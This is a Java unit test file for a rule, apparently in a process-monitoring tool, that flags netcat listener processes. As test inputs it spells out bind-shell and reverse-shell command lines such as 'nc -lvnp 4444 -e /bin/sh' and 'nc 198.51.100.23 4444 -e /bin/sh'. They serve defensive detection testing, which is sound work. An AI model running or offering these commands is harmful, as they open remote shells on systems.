package io.ncwatch.generate;

import static org.assertj.core.api.Assertions.assertThat;

import io.ncwatch.generate.ProcessEvent.Action;
import org.junit.jupiter.api.Test;

/** The ground truth's reading of the seed rule, on the commands the generator uses and their edges. */
class ListenerRuleTest {

    @Test
    void netcatHealthChecksDoNotMatch() {
        assertThat(exec("/usr/bin/nc", "nc", "-z", "db", "5432")).isFalse();
        assertThat(exec("/usr/bin/nc", "nc", "-vz", "redis", "6379")).isFalse();
        assertThat(exec("/usr/bin/nc", "nc", "-zv", "-w", "2", "api", "8080")).isFalse();
        assertThat(exec("/usr/bin/nc", "nc", "host", "80")).isFalse();
    }

    @Test
    void aSourcePortMatchesEvenWhenHarmless() {
        assertThat(exec("/usr/bin/nc", "nc", "-p", "5000", "host", "80")).isTrue();
    }

    @Test
    void listenersMatchInEveryForm() {
        assertThat(exec("/usr/bin/nc", "nc", "-lvnp", "4444", "-e", "/bin/sh")).isTrue();
        assertThat(exec("/usr/bin/ncat", "ncat", "--listen", "4444", "--sh-exec", "/bin/sh")).isTrue();
        assertThat(exec("/bin/busybox", "busybox", "nc", "-lp", "4444", "-e", "sh")).isTrue();
        assertThat(exec("/usr/bin/timeout", "timeout", "60", "nc", "-l", "-p", "4444")).isTrue();
        assertThat(exec("/usr/bin/NC", "NC", "-L", "4444")).as("case-insensitive").isTrue();
    }

    @Test
    void aReverseShellIsNoListener() {
        assertThat(exec("/usr/bin/nc", "nc", "198.51.100.23", "4444", "-e", "/bin/sh")).isFalse();
    }

    @Test
    void aCommandLineInsideOneArgumentIsNotTheNetcatName() {
        assertThat(exec("/bin/sh", "sh", "-c", "nc -lvnp 4444")).isFalse();
    }

    @Test
    void onlyStartsMatch() {
        Command listener = Command.of("/usr/bin/nc", "nc", "-lvnp", "4444");
        assertThat(ListenerRule.matches(Action.FORK, listener)).isTrue();
        assertThat(ListenerRule.matches(Action.END, listener)).isFalse();
    }

    private static boolean exec(String executable, String... args) {
        return ListenerRule.matches(Action.EXEC, Command.of(executable, args));
    }
}
